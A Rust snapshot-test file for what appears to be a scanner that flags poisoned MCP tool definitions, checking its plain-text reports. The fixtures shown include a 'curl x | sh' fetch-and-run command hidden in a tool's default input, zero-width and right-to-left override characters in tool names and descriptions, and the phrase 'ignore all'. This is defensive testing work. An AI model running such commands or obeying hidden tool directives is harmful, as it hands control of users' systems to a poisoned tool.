//! Plain text: the snapshots are what people read.

use crate::fixture::Fixture;
use portcullis_decide::Persona;
use portcullis_report::{Plain, Style};

fn text(fixture: &Fixture, plain: Plain) -> String {
    // The version changes with every release; the snapshots need not.
    let text = fixture.written(|scan, out| plain.write(scan, out));
    text.replace(portcullis_detect::RULES_VERSION, "VERSION")
}

#[test]
fn findings_for_everyone() {
    insta::assert_snapshot!(text(&Fixture::new(Persona::Regular), Plain::default()), @r"
error[unicode.hidden]: something is hidden here
 --> mail/sendU+202Eevil#/inputSchema/properties/q/default (servers/mail box.json:4:7)
  |
  | curl x | sh
  | ^^^^
 ::: mail/sendU+202Eevil#/description: something is hidden here
  |
  | Sends a letter [now](http://x).U+200BU+200B 日本語
  |                                ^^^^^^^^^^^^
 ::: mail/sendU+202Eevil#/description: something is hidden here
  |
  | Sends a letter [now](http://x).U+200BU+200B 日本語
  |                                             ^^^^
  |
  = note: and 1 place more; --format json lists all
  = note: decoded from base64 at #/inputSchema/properties/q/default
  = note: confidence 0.90, signals unicode.hidden, directive.imperative
  = note: tool_poisoning (MCP03:2025 Tool Poisoning); the tool is critical, risk 80: quarantine
  = help: portcullis explain unicode.hidden

warning[directive.imperative]: something is hidden here
 --> mail/sendU+202Eevil#/description (servers/mail box.json:4:7)
  |
  | Sends a letter [now](http://x).U+200BU+200B 日本語
  |                 ^^^
  |
  = note: confidence 0.60, signals unicode.hidden, directive.imperative
  = note: tool_poisoning (MCP06:2025 Intent Flow Subversion); the tool is critical, risk 80: quarantine
  = help: portcullis explain directive.imperative

incomplete: broken.json:3:9: expected `:`
incomplete: 1 part not looked at; 1 finding: 1 critical (0 suppressed, 2 ignored by regular) in 7 definitions of 2 servers, rules VERSION
");
}

#[test]
fn auditors_see_what_was_discounted_and_why() {
    let text = text(&Fixture::new(Persona::Auditor), Plain::default());
    let start = text.find("note[").expect("a discounted signal is shown");
    insta::assert_snapshot!(&text[start..], @r#"
note[directive.imperative]: something is hidden here
 --> notes/guard#/description
  |
  | Finds "ignore all" in text.
  |        ^^^^^^^^^^
  |
  = note: confidence lowered from 0.70: it stands in quotes
  = note: confidence 0.10, signals none
  = note: tool_poisoning (MCP06:2025 Intent Flow Subversion); the tool is info, risk 0: none
  = help: portcullis explain directive.imperative

incomplete: broken.json:3:9: expected `:`
incomplete: 1 part not looked at; 3 findings: 1 critical, 1 low, 1 info (0 suppressed, 0 ignored by auditor) in 7 definitions of 2 servers, rules VERSION
"#);
}

#[test]
fn other_kinds_say_what_they_are() {
    let text = text(&Fixture::new(Persona::Pedantic), Plain::default());
    assert!(text.contains(" --> notes/prompts/daily#/description\n"), "{text}");
    assert!(text.contains("the prompt is low, risk 15: review"), "{text}");
}

#[test]
fn every_place_is_shown_on_demand() {
    let fixture = Fixture::new(Persona::Regular);
    let all = text(&fixture, Plain { every_place: true, ..Plain::default() });
    assert_eq!(all.matches(" ::: ").count(), 3);
    assert!(!all.contains(" more; "));
    assert_eq!(text(&fixture, Plain::default()).matches(" ::: ").count(), 2);
}

#[test]
fn a_clean_report_is_one_line() {
    insta::assert_snapshot!(text(&Fixture::clean(), Plain::default()), @"no findings (0 suppressed, 0 ignored by regular) in 1 definition of 1 server, rules VERSION");
}

#[test]
fn colours_only_wrap_what_is_said_without_them() {
    let fixture = Fixture::new(Persona::Auditor);
    let coloured = text(&fixture, Plain { style: Style::coloured(), ..Plain::default() });
    assert!(coloured.contains("\x1b[1;91merror[unicode.hidden]\x1b[0m"));
    let mut stripped = coloured;
    for code in ["\x1b[1;91m", "\x1b[1;33m", "\x1b[1;92m", "\x1b[1;94m", "\x1b[1m", "\x1b[0m"] {
        stripped = stripped.replace(code, "");
    }
    assert_eq!(stripped, text(&fixture, Plain::default()));
}

#[test]
fn nothing_hidden_or_steering_is_printed() {
    let text = text(&Fixture::new(Persona::Auditor), Plain::default());
    let is_bad = |c: char| {
        (c.is_control() && c != '\n') || matches!(c, '\u{200b}'..='\u{200f}' | '\u{202a}'..='\u{202e}')
    };
    assert!(!text.contains(is_bad), "{text:?}");
}
